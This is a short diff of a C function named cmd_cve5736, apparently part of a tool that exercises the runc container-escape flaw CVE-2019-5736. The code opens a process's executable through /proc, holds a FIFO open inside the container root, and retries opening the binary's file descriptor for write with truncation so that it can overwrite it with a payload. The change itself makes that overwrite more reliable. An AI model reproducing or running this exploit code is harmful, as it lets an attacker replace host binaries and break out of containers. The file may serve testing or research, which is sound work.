@@ -897,13 +897,13 @@ static int cmd_cve5736(const char *dir)
 		print_errno("exe_open", errno);
 	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
 	printf("exe=%.*s\n", n > 0 ? (int)n : 0, exe);
-	/* Let it go on: its open of the FIFO returns, its write fails. */
+	/* Let it go on: its open of the FIFO returns.  The read end stays
+	 * open until the end, so that its later opens of the log (an error
+	 * line) do not block it forever: it must exit for the write below. */
 	snprintf(path, sizeof(path), "/proc/%d/root%s/fifo", (int)pid, dir);
 	int r = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
 	if (r < 0)
 		kill(pid, SIGKILL);
-	else
-		close(r);
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
 	for (int i = 0; fd >= 0 && i < 200000; i++) {   /* up to ~100 s */
 		w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
@@ -911,6 +911,8 @@ static int cmd_cve5736(const char *dir)
 			break;
 		usleep(500);
 	}
+	if (r >= 0)
+		close(r);
 	if (w < 0) {
 		print_errno("overwrite", fd < 0 ? EBADF : errno);
 	} else if (write(w, payload, sizeof(payload) - 1) != (ssize_t)sizeof(payload) - 1) {
